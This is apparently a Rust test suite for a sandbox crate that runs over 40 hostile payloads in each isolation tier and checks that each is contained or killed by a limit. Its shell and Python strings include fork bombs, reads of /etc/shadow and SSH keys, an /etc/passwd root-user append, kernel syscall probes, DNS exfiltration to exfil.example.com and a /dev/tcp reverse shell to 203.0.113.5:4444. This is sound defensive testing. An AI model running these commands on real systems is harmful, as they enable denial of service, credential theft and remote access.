//! Hostile payloads, each with its expected outcome, run in every tier that works here.
//!
//! A payload either gets killed by a limit (the stop reason is checked), or tests its own
//! attack and prints `CONTAINED` when the attack failed and `ESCAPED` when it worked.

use std::collections::BTreeMap;
use std::time::Duration;

use baton_sandbox::{ExecOutput, ExecRequest, Policy, StopReason, Tier};

use crate::common;

/// What a payload must end in (any of the listed outcomes).
#[derive(Clone, Debug)]
pub enum Outcome {
    /// The payload reports its attack failed.
    Contained,
    /// It ended this way (a limit, or `Exited` for payloads judged on their output).
    Killed(StopReason),
}

pub struct Payload {
    pub name: &'static str,
    pub argv: Vec<String>,
    pub expect: Vec<Outcome>,
    pub tweak: fn(&mut Policy),
    pub env: Vec<(&'static str, String)>,
    /// Also required in the process tier: this limit must be among those hit.
    pub process_hit: Option<StopReason>,
}

fn sh(script: &str) -> Vec<String> {
    vec!["/bin/sh".into(), "-c".into(), script.into()]
}

fn py(script: &str) -> Vec<String> {
    vec!["python3".into(), "-c".into(), script.into()]
}

fn no_tweak(_: &mut Policy) {}

fn p(name: &'static str, argv: Vec<String>, expect: Vec<Outcome>) -> Payload {
    Payload {
        name,
        argv,
        expect,
        tweak: no_tweak,
        env: Vec::new(),
        process_hit: None,
    }
}

/// A Python prelude: a raw syscall helper (x86_64 numbers) and the verdict functions.
const PY_SYS: &str = r#"
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
def sysc(nr, *args):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    return r, ctypes.get_errno()
def verdict(escaped):
    print("ESCAPED" if escaped else "CONTAINED")
def probe(calls):
    # Each call must be refused by the filter (EPERM) or not exist (ENOSYS): any other
    # outcome, success or an argument error, means the kernel's handler was reached.
    reached = []
    for name, nr, args in calls:
        r, e = sysc(nr, *args)
        if r != -1 or e not in (1, 38):
            reached.append("%s=%d/%d" % (name, r, e))
    if reached:
        print("reached:", " ".join(reached))
    verdict(bool(reached))
"#;

fn pysys(body: &str) -> Vec<String> {
    py(&format!("{PY_SYS}\n{body}"))
}

use Outcome::*;

pub fn payloads(host_port: u16) -> Vec<Payload> {
    let host_pid = std::process::id();
    let mut v = vec![
        // --- Resource exhaustion: killed by a limit.
        Payload {
            name: "fork bomb (shell)",
            argv: vec![
                "/bin/bash".into(),
                "-c".into(),
                ":(){ :|:& };:; sleep 30".into(),
            ],
            expect: vec![Killed(StopReason::TimeLimit), Killed(StopReason::PidsLimit)],
            tweak: |p| p.limits.time = Duration::from_secs(2),
            env: Vec::new(),
            process_hit: Some(StopReason::PidsLimit),
        },
        Payload {
            name: "fork bomb (python os.fork loop)",
            argv: py(
                "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
            ),
            expect: vec![Killed(StopReason::TimeLimit), Killed(StopReason::PidsLimit)],
            tweak: |p| p.limits.time = Duration::from_secs(2),
            env: Vec::new(),
            process_hit: Some(StopReason::PidsLimit),
        },
        Payload {
            name: "memory bomb past the limit",
            argv: py("b = []\nwhile True:\n    b.append(bytearray(16 << 20))"),
            expect: vec![Killed(StopReason::MemoryLimit)],
            tweak: |p| p.limits.memory_bytes = 128 << 20,
            env: Vec::new(),
            process_hit: None,
        },
        Payload {
            name: "memory bomb in a child process",
            argv: sh("python3 -c 'b=bytearray(1<<30); print(len(b))'; echo after"),
            expect: vec![Killed(StopReason::MemoryLimit)],
            tweak: |p| p.limits.memory_bytes = 96 << 20,
            env: Vec::new(),
            process_hit: None,
        },
        Payload {
            name: "filling the workspace",
            argv: sh(
                "dd if=/dev/zero of=/work/fill bs=1M count=200 oflag=sync 2>/dev/null; s=$(wc -c < /work/fill); [ \"$s\" -le 16777216 ] && echo CONTAINED || echo ESCAPED",
            ),
            expect: vec![
                Contained,
                Killed(StopReason::DiskFull),
                Killed(StopReason::MemoryLimit),
            ],
            tweak: |p| p.limits.disk_bytes = 16 << 20,
            env: Vec::new(),
            process_hit: Some(StopReason::DiskFull),
        },
        Payload {
            name: "filling /tmp",
            argv: sh(
                "i=0; while [ $i -lt 100 ]; do head -c 1048576 /dev/zero > /tmp/f$i 2>/dev/null || break; i=$((i+1)); done; [ $i -le 16 ] && echo CONTAINED || echo ESCAPED",
            ),
            expect: vec![
                Contained,
                Killed(StopReason::DiskFull),
                Killed(StopReason::MemoryLimit),
            ],
            tweak: |p| p.limits.disk_bytes = 16 << 20,
            env: Vec::new(),
            process_hit: Some(StopReason::DiskFull),
        },
        Payload {
            name: "infinite loop",
            argv: sh("while :; do :; done"),
            expect: vec![Killed(StopReason::TimeLimit)],
            tweak: |p| p.limits.time = Duration::from_secs(1),
            env: Vec::new(),
            process_hit: None,
        },
        Payload {
            name: "ignores SIGTERM and sleeps",
            argv: sh("trap '' TERM INT HUP; sleep 1000"),
            expect: vec![Killed(StopReason::TimeLimit)],
            tweak: |p| p.limits.time = Duration::from_secs(1),
            env: Vec::new(),
            process_hit: None,
        },
        Payload {
            name: "background children outlive the command (time limit kills the tree)",
            argv: sh("(sleep 1000 &) ; sleep 1000 & while :; do sleep 1; done"),
            expect: vec![Killed(StopReason::TimeLimit)],
            tweak: |p| p.limits.time = Duration::from_secs(1),
            env: Vec::new(),
            process_hit: None,
        },
        Payload {
            name: "huge stdout (1 GB) is capped",
            argv: sh("head -c 1073741824 /dev/zero; echo done >&2"),
            expect: vec![Killed(StopReason::Exited), Killed(StopReason::TimeLimit)],
            tweak: |p| p.limits.time = Duration::from_secs(30),
            env: Vec::new(),
            process_hit: None,
        },
        Payload {
            name: "10000 open files",
            argv: py(
                "import os\nfds=[]\ntry:\n    for i in range(10000):\n        fds.append(os.open('/dev/null', os.O_RDONLY))\nexcept OSError:\n    pass\nprint('CONTAINED' if len(fds) < 10000 else 'ESCAPED')",
            ),
            expect: vec![Contained],
            tweak: no_tweak,
            env: Vec::new(),
            process_hit: None,
        },
        // --- Secrets and the host's files.
        p(
            "reading /etc/shadow",
            sh("cat /etc/shadow 2>/dev/null | grep -q 'root:' && echo ESCAPED || echo CONTAINED"),
            vec![Contained],
        ),
        p(
            "reading the host's SSH keys",
            sh(
                "for f in /root/.ssh/* /home/*/.ssh/* /etc/ssh/ssh_host_*_key; do [ -r \"$f\" ] && head -c1 \"$f\" >/dev/null 2>&1 && echo ESCAPED; done; echo CONTAINED",
            ),
            vec![Contained],
        ),
        Payload {
            name: "reading the host's environment",
            argv: sh(
                "env | grep -q CARGO_ && echo ESCAPED; cat /proc/1/environ 2>/dev/null | tr '\\0' '\\n' | grep -q CARGO_ && echo ESCAPED; echo CONTAINED",
            ),
            expect: vec![Contained],
            tweak: no_tweak,
            env: Vec::new(),
            process_hit: None,
        },
        p(
            "listing /home and /root",
            sh("ls /home /root >/dev/null 2>&1 && echo ESCAPED || echo CONTAINED"),
            vec![Contained],
        ),
        p(
            "host /sys and cgroup files",
            sh(
                "ls /sys/class/net >/dev/null 2>&1 && echo ESCAPED; mkdir /sys/fs/cgroup/memory/x 2>/dev/null && echo ESCAPED; echo CONTAINED",
            ),
            vec![Contained],
        ),
        p(
            "block devices and /dev/mem",
            sh(
                "for d in /dev/vda /dev/sda /dev/mem /dev/kmem /dev/kvm /dev/port; do [ -e $d ] && echo ESCAPED; done; echo CONTAINED",
            ),
            vec![Contained],
        ),
        p(
            "/proc/kcore",
            sh("head -c 16 /proc/kcore >/dev/null 2>&1 && echo ESCAPED || echo CONTAINED"),
            vec![Contained],
        ),
        // --- Writing where it must not.
        p(
            "writing to /usr",
            sh(
                "echo x > /usr/evil 2>/dev/null && echo ESCAPED; touch /usr/bin/evil 2>/dev/null && echo ESCAPED; echo CONTAINED",
            ),
            vec![Contained],
        ),
        p(
            "writing to /etc",
            sh(
                "echo 'evil:x:0:0::/:/bin/sh' >> /etc/passwd 2>/dev/null && echo ESCAPED; echo x > /etc/evil 2>/dev/null && echo ESCAPED; echo CONTAINED",
            ),
            vec![Contained],
        ),
        p(
            "writing to /",
            sh("touch /evil 2>/dev/null && echo ESCAPED || echo CONTAINED"),
            vec![Contained],
        ),
        p(
            "escaping the workspace through ..",
            sh(
                "cd /work; echo x > ../../evil 2>/dev/null && echo ESCAPED; cat ../../etc/shadow 2>/dev/null && echo ESCAPED; echo x > /work/../usr/evil 2>/dev/null && echo ESCAPED; echo CONTAINED",
            ),
            vec![Contained],
        ),
        p(
            "escaping the workspace through symlinks",
            sh(
                "cd /work; ln -s / root; ln -s /etc/shadow s; cat s 2>/dev/null && echo ESCAPED; ls root/root >/dev/null 2>&1 && echo ESCAPED; echo x > root/usr/evil 2>/dev/null && echo ESCAPED; echo CONTAINED",
            ),
            vec![Contained],
        ),
        p(
            "hard link to a system file",
            sh(
                "ln /usr/bin/env /work/env 2>/dev/null && echo x >> /work/env 2>/dev/null && echo ESCAPED; echo CONTAINED",
            ),
            vec![Contained],
        ),
        p(
            "time-of-check race on the workspace (swap file and symlink)",
            py(
                "import os, time\nos.chdir('/work')\npid = os.fork()\nif pid == 0:\n    end = time.time() + 3\n    while time.time() < end:\n        try:\n            os.symlink('/etc/shadow', 't')\n            os.remove('t')\n            open('t', 'w').write('ok')\n            os.remove('t')\n        except OSError:\n            pass\n    os._exit(0)\nleak = False\nfor i in range(20000):\n    try:\n        if 'root:' in open('t').read():\n            leak = True\n    except OSError:\n        pass\nos.kill(pid, 9)\nos.waitpid(pid, 0)\nprint('ESCAPED' if leak else 'CONTAINED')",
            ),
            vec![Contained],
        ),
        // --- Privilege and kernel attack surface.
        p(
            "is not root and has no capabilities",
            sh(
                "[ \"$(id -u)\" = 0 ] && echo ESCAPED; grep -q 'CapEff:\\s*0*$' /proc/self/status || echo ESCAPED; echo CONTAINED",
            ),
            vec![Contained],
        ),
        p(
            "setuid(0)",
            pysys("try:\n    os.setuid(0)\n    verdict(True)\nexcept OSError:\n    verdict(False)"),
            vec![Contained],
        ),
        p(
            "setuid binaries",
            sh(
                "for b in /usr/bin/su /usr/bin/passwd /usr/bin/mount /usr/bin/newgrp /bin/su; do [ -x $b ] || continue; out=$($b -c id root </dev/null 2>/dev/null); echo \"$out\" | grep -q 'uid=0' && echo ESCAPED; done; out=$(echo 'id -u' | /usr/bin/newgrp 2>/dev/null); [ \"$out\" = 0 ] && echo ESCAPED; echo CONTAINED",
            ),
            vec![Contained],
        ),
        p(
            "ptrace of another process",
            pysys(
                "import subprocess\nc = subprocess.Popen(['sleep', '5'])\nr, e = sysc(101, 16, c.pid, 0, 0)\nc.kill()\nverdict(r == 0)",
            ),
            vec![Contained],
        ),
        p(
            "ptrace(TRACEME)",
            pysys("r, e = sysc(101, 0, 0, 0, 0)\nverdict(r == 0)"),
            vec![Contained],
        ),
        p(
            "process_vm_readv",
            pysys("r, e = sysc(310, 1, 0, 0, 0, 0, 0)\nverdict(r >= 0)"),
            vec![Contained],
        ),
        p(
            "mounting a filesystem",
            sh(
                "mount -t tmpfs none /tmp 2>/dev/null && echo ESCAPED; python3 -c \"import ctypes; l=ctypes.CDLL(None); print('ESCAPED' if l.mount(b'none', b'/tmp', b'tmpfs', 0, None)==0 else 'ok')\"; echo CONTAINED",
            ),
            vec![Contained],
        ),
        p(
            "loading a kernel module",
            pysys(
                "r1, _ = sysc(175, 0, 0, b'')\nr2, _ = sysc(313, 0, b'', 0)\nverdict(r1 == 0 or r2 == 0)",
            ),
            vec![Contained],
        ),
        p(
            "kexec_load",
            pysys("r, e = sysc(246, 0, 0, 0, 0)\nverdict(r == 0)"),
            vec![Contained],
        ),
        p(
            "bpf()",
            pysys("r, e = sysc(321, 0, 0, 0)\nverdict(r >= 0)"),
            vec![Contained],
        ),
        p(
            "unshare a user namespace",
            sh(
                "unshare -U -r id 2>/dev/null | grep -q uid=0 && echo ESCAPED; python3 -c \"import ctypes; print('ESCAPED' if ctypes.CDLL(None).unshare(0x10000000)==0 else 'ok')\"; echo CONTAINED",
            ),
            vec![Contained],
        ),
        p(
            "setns into another namespace",
            pysys(
                "fd = os.open('/proc/self/ns/net', os.O_RDONLY)\nr, e = sysc(308, fd, 0)\nverdict(r == 0)",
            ),
            vec![Contained],
        ),
        p(
            "keyctl / add_key",
            pysys("r, e = sysc(248, b'user', b'k', b'v', 1, 0xfffffffd)\nverdict(r >= 0)"),
            vec![Contained],
        ),
        p(
            "userfaultfd",
            pysys("r, e = sysc(323, 0)\nverdict(r >= 0)"),
            vec![Contained],
        ),
        p(
            "perf_event_open",
            pysys(
                "attr = ctypes.create_string_buffer(128)\nr, e = sysc(298, attr, 0, -1, -1, 0)\nverdict(r >= 0)",
            ),
            vec![Contained],
        ),
        // One payload per family the seccomp filter refuses (x86_64 numbers, valid arguments
        // where the call would succeed unfiltered).
        p(
            "io_uring (setup, enter, register)",
            pysys(
                "params = ctypes.create_string_buffer(120)\nprobe([('io_uring_setup', 425, (1, params)), ('io_uring_enter', 426, (-1, 0, 0, 0, 0, 0)), ('io_uring_register', 427, (-1, 0, 0, 0))])",
            ),
            vec![Contained],
        ),
        p(
            "kcmp, pidfd_getfd, process_madvise",
            pysys(
                "me = os.getpid()\npidfd, _ = sysc(434, me, 0)\nprobe([('kcmp', 312, (me, me, 0, 0, 0)), ('pidfd_getfd', 438, (pidfd, 0, 0)), ('process_madvise', 440, (pidfd, 0, 0, 20, 0))])",
            ),
            vec![Contained],
        ),
        p(
            "the new mount API (fsopen, open_tree, fspick, move_mount, mount_setattr)",
            pysys(
                "probe([('fsopen', 430, (b'tmpfs', 0)), ('open_tree', 428, (-100, b'/', 0)), ('fspick', 433, (-100, b'/', 0)), ('move_mount', 429, (-1, b'', -1, b'', 0)), ('mount_setattr', 442, (-1, b'', 0, 0, 0))])",
            ),
            vec![Contained],
        ),
        p(
            "file handles (name_to_handle_at, open_by_handle_at)",
            pysys(
                "h = ctypes.create_string_buffer(136)\nctypes.memmove(h, (128).to_bytes(4, 'little'), 4)\nmid = ctypes.create_string_buffer(8)\nprobe([('name_to_handle_at', 303, (-100, b'/', h, mid, 0)), ('open_by_handle_at', 304, (-100, h, 0))])",
            ),
            vec![Contained],
        ),
        p(
            "the kernel keyring (keyctl, request_key)",
            pysys(
                "probe([('keyctl', 250, (0, -3, 0)), ('request_key', 249, (b'user', b'k', 0, 0))])",
            ),
            vec![Contained],
        ),
        p(
            "NUMA memory policy (mbind, set_mempolicy, get_mempolicy, migrate_pages, move_pages)",
            pysys(
                "mode = ctypes.create_string_buffer(8)\nprobe([('set_mempolicy', 238, (0, 0, 0)), ('get_mempolicy', 239, (mode, 0, 0, 0, 0)), ('mbind', 237, (0, 0, 0, 0, 0, 0)), ('migrate_pages', 256, (0, 0, 0, 0)), ('move_pages', 279, (0, 0, 0, 0, 0, 0))])",
            ),
            vec![Contained],
        ),
        p(
            "namespaces through clone and clone3",
            pysys(
                "r, e = sysc(56, 0x10000000 | 17, 0, 0, 0, 0)\nif r == 0:\n    os._exit(0)\nif r > 0:\n    os.waitpid(r, 0)\nok = r == -1 and e in (1, 38)\nif not ok:\n    print('reached: clone', r, e)\nr, e = sysc(435, 0, 0)\nif r != -1 or e not in (1, 38):\n    print('reached: clone3', r, e)\n    ok = False\nverdict(not ok)",
            ),
            vec![Contained],
        ),
        p(
            "host clocks, kernel log, swap, accounting, quotas",
            pysys(
                "tv = ctypes.create_string_buffer(16)\ntx = ctypes.create_string_buffer(256)\nprobe([('settimeofday', 164, (0, 0)), ('clock_settime', 227, (0, tv)), ('adjtimex', 159, (tx,)), ('clock_adjtime', 305, (0, tx)), ('syslog', 103, (10, 0, 0)), ('swapon', 167, (b'/nonexistent', 0)), ('acct', 163, (0,)), ('quotactl', 179, (0, 0, 0, 0)), ('quotactl_fd', 443, (-1, 0, 0, 0)), ('vhangup', 153, ()), ('reboot', 169, (0, 0, 0, 0))])",
            ),
            vec![Contained],
        ),
        p(
            "port I/O, execution domains, fanotify, obsolete calls",
            pysys(
                "buf = ctypes.create_string_buffer(64)\nprobe([('iopl', 172, (3,)), ('ioperm', 173, (0x80, 1, 1)), ('personality', 135, (0xffffffff,)), ('fanotify_init', 300, (0, 0)), ('lookup_dcookie', 212, (0, buf, 64)), ('sysfs', 139, (3,)), ('ustat', 136, (0, buf)), ('uselib', 134, (b'/nonexistent',))])",
            ),
            vec![Contained],
        ),
        p(
            "vsock sockets (not namespaced)",
            pysys(
                "import socket\nok = False\ntry:\n    socket.socket(40, socket.SOCK_STREAM, 0)\n    ok = True\nexcept OSError:\n    pass\nverdict(ok)",
            ),
            vec![Contained],
        ),
        p(
            "chroot",
            pysys(
                "try:\n    os.chroot('/tmp')\n    verdict(True)\nexcept OSError:\n    verdict(False)",
            ),
            vec![Contained],
        ),
        p(
            "writing /proc/sys",
            sh(
                "echo 1 > /proc/sys/kernel/sysrq 2>/dev/null && echo ESCAPED; echo 0 > /proc/sys/kernel/randomize_va_space 2>/dev/null && echo ESCAPED; echo CONTAINED",
            ),
            vec![Contained],
        ),
        p(
            "changing the hostname",
            sh(
                "hostname evil 2>/dev/null && echo ESCAPED; python3 -c \"import socket; socket.sethostname('evil')\" 2>/dev/null && echo ESCAPED; echo CONTAINED",
            ),
            vec![Contained],
        ),
        Payload {
            name: "signals to host processes",
            argv: sh(
                "kill -9 $HOST_PID 2>/dev/null && echo ESCAPED; kill -9 -1 2>/dev/null; echo CONTAINED",
            ),
            expect: vec![Contained, Killed(StopReason::Signal)],
            tweak: no_tweak,
            env: vec![("HOST_PID", host_pid.to_string())],
            process_hit: None,
        },
        Payload {
            name: "seeing host processes",
            argv: sh(
                "ls /proc/$HOST_PID >/dev/null 2>&1 && echo ESCAPED; n=$(ls /proc | grep -c '^[0-9]'); [ \"$n\" -lt 20 ] && echo CONTAINED || echo ESCAPED",
            ),
            expect: vec![Contained],
            tweak: no_tweak,
            env: vec![("HOST_PID", host_pid.to_string())],
            process_hit: None,
        },
        // In the oci/gvisor tiers the command itself is PID 1 and may end itself; the host is untouched.
        p(
            "killing the sandbox init",
            sh("kill -9 1 2>/dev/null; sleep 0.2; echo CONTAINED"),
            vec![Contained, Killed(StopReason::Signal)],
        ),
        // --- Network.
        p(
            "raw sockets",
            pysys(
                "import socket\nok = False\nfor fam, typ, proto in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), (17, socket.SOCK_RAW, 0)]:\n    try:\n        socket.socket(fam, typ, proto)\n        ok = True\n    except OSError:\n        pass\nverdict(ok)",
            ),
            vec![Contained],
        ),
        Payload {
            name: "connecting to the host's loopback from inside `none`",
            argv: py(
                "import os, socket\ntry:\n    socket.create_connection(('127.0.0.1', int(os.environ['HOST_PORT'])), timeout=2)\n    print('ESCAPED')\nexcept OSError:\n    print('CONTAINED')",
            ),
            expect: vec![Contained],
            tweak: no_tweak,
            env: vec![("HOST_PORT", host_port.to_string())],
            process_hit: None,
        },
        p(
            "connecting to the internet",
            py(
                "import socket\ntry:\n    socket.create_connection(('1.1.1.1', 80), timeout=2)\n    print('ESCAPED')\nexcept OSError:\n    print('CONTAINED')",
            ),
            vec![Contained],
        ),
        p(
            "DNS exfiltration",
            py(
                "import socket\nescaped = False\ntry:\n    socket.getaddrinfo('secret-data.exfil.example.com', 80)\n    escaped = True\nexcept OSError:\n    pass\ntry:\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x00\\x00\\x01\\x00\\x01', ('8.8.8.8', 53))\n    s.settimeout(1)\n    s.recv(512)\n    escaped = True\nexcept OSError:\n    pass\nprint('ESCAPED' if escaped else 'CONTAINED')",
            ),
            vec![Contained],
        ),
        p(
            "reverse shell to a raw IP",
            sh(
                "(exec 3<>/dev/tcp/203.0.113.5/4444) 2>/dev/null && echo ESCAPED; python3 -c \"import socket; socket.create_connection(('203.0.113.5', 4444), timeout=1)\" 2>/dev/null && echo ESCAPED; echo CONTAINED",
            ),
            vec![Contained],
        ),
        // --- Descriptors and leftovers.
        Payload {
            name: "file descriptors leaked from the parent",
            argv: sh(
                "for f in /proc/self/fd/*; do n=${f##*/}; [ \"$n\" -gt 2 ] 2>/dev/null || continue; cat $f 2>/dev/null | grep -q LEAKED-SECRET && echo ESCAPED; done; echo CONTAINED",
            ),
            expect: vec![Contained],
            tweak: no_tweak,
            env: Vec::new(),
            process_hit: None,
        },
        p(
            "zombie and orphan processes",
            sh(
                "(sleep 1000 &); (sh -c 'sleep 1000 & exit 0'); sleep 1000 & python3 -c \"import os\nif os.fork()==0:\n    os.setsid()\n    if os.fork()==0:\n        import time; time.sleep(1000)\n\"; echo CONTAINED",
            ),
            vec![Contained],
        ),
    ];
    v.shrink_to_fit();
    v
}

/// Checks one output against a payload's expectations.
pub fn judge(pl: &Payload, tier: Tier, out: &ExecOutput) -> Result<String, String> {
    let contained = out.stdout.contains("CONTAINED") && !out.stdout.contains("ESCAPED");
    if out.stdout.contains("ESCAPED") {
        return Err(format!(
            "ESCAPED: stdout {:?}",
            out.stdout.chars().take(300).collect::<String>()
        ));
    }
    let mut ok = None;
    for e in &pl.expect {
        match e {
            Outcome::Contained if contained => ok = Some("contained".to_string()),
            Outcome::Killed(r) if out.stop_reason == *r => {
                ok = Some(format!("killed ({})", r.as_str()))
            }
            _ => {}
        }
        if ok.is_some() {
            break;
        }
    }
    let Some(how) = ok else {
        return Err(format!(
            "expected {:?}, got stop {:?} (exit {:?}, signal {:?}, hit {:?}), stdout {:?}, stderr {:?}",
            pl.expect,
            out.stop_reason,
            out.exit_code,
            out.signal,
            out.limits_hit,
            out.stdout.chars().take(200).collect::<String>(),
            out.stderr.chars().take(300).collect::<String>()
        ));
    };
    if tier == Tier::Process
        && let Some(h) = pl.process_hit
        && !out.limits_hit.contains(&h)
    {
        return Err(format!(
            "expected the {} limit to be hit, got {:?}",
            h.as_str(),
            out.limits_hit
        ));
    }
    if pl.name.starts_with("huge stdout") {
        if !out.stdout_truncated || out.stdout.len() as u64 > out_cap() {
            return Err(format!(
                "stdout not capped: {} bytes, truncated {}",
                out.stdout.len(),
                out.stdout_truncated
            ));
        }
        return Ok(format!(
            "{how}, stdout capped at {} bytes",
            out.stdout.len()
        ));
    }
    Ok(how)
}

fn out_cap() -> u64 {
    Policy::new(Tier::Process).limits.output_bytes
}

/// One payload's row: its name and how it ended (a failure says why).
pub type Row = (String, Result<String, String>);

/// Prints the suite's rows for `tier` and fails unless there are at least 40 payloads and
/// every one ran and ended as expected.
pub fn report(tier: Tier, rows: &[Row], took: std::time::Duration) {
    let mut failed = Vec::new();
    println!("hostile payloads in the {tier} tier:");
    for (name, verdict) in rows {
        match verdict {
            Ok(how) => println!("  ok    {name}: {how}"),
            Err(why) => {
                println!("  FAIL  {name}: {why}");
                failed.push(name.clone());
            }
        }
    }
    println!(
        "{tier}: {} of {} payloads ran, {} as expected, {} not ({:.1} s)",
        rows.len(),
        payloads(0).len(),
        rows.len() - failed.len(),
        failed.len(),
        took.as_secs_f64()
    );
    assert_eq!(
        rows.len(),
        payloads(0).len(),
        "every payload must give a row in the {tier} tier"
    );
    assert!(rows.len() >= 40, "the suite must have at least 40 payloads");
    assert!(
        failed.is_empty(),
        "payloads with unexpected outcomes in the {tier} tier: {failed:?}"
    );
}

/// Runs every payload in `tier`; returns one row per payload, or None (having said why, or
/// failed when the tier is required) when the tier cannot run here.
pub async fn run_suite(tier: Tier) -> Option<Vec<Row>> {
    let base = Policy::new(tier);
    if let Err(e) = baton_sandbox::open(base.clone()) {
        let what = format!("the hostile payloads (0 of {} ran)", payloads(0).len());
        common::skip(tier, &what, &e);
        return None;
    }
    // A host service on loopback the payloads must not reach, and a leaked descriptor.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let leak = common::leaked_fd("LEAKED-SECRET");
    let sem = std::sync::Arc::new(tokio::sync::Semaphore::new(3));
    let mut set = tokio::task::JoinSet::new();
    let mut names = BTreeMap::new();
    for (i, pl) in payloads(port).into_iter().enumerate() {
        let mut pol = base.clone();
        (pl.tweak)(&mut pol);
        let sem = sem.clone();
        let name = pl.name.to_string();
        let task = set.spawn(async move {
            let _permit = sem.acquire().await;
            let sb = match baton_sandbox::open(pol) {
                Ok(sb) => sb,
                Err(e) => return Err(format!("cannot open: {e}")),
            };
            let mut req = ExecRequest::new(pl.argv.clone());
            req.env = pl
                .env
                .iter()
                .map(|(k, v)| (k.to_string(), v.clone()))
                .collect();
            match sb.exec(req).await {
                Ok(out) => judge(&pl, tier, &out),
                Err(e) => Err(format!("error: {e}")),
            }
        });
        names.insert(task.id(), (i, name));
    }
    let rows = collect(set, &names).await;
    drop(leak);
    drop(listener);
    Some(rows)
}

/// The rows of finished payload tasks in payload order; a task that panicked or was
/// cancelled is a failed row, never a dropped one.
pub async fn collect(
    mut set: tokio::task::JoinSet<Result<String, String>>,
    names: &BTreeMap<tokio::task::Id, (usize, String)>,
) -> Vec<Row> {
    let mut rows = Vec::new();
    while let Some(r) = set.join_next_with_id().await {
        let (id, verdict) = match r {
            Ok((id, v)) => (id, v),
            Err(e) => (e.id(), Err(format!("the payload's task failed: {e}"))),
        };
        let (i, name) = names
            .get(&id)
            .cloned()
            .unwrap_or((usize::MAX, format!("unknown task {id}")));
        rows.push((i, name, verdict));
    }
    rows.sort_by_key(|r| r.0);
    rows.into_iter().map(|(_, n, v)| (n, v)).collect()
}
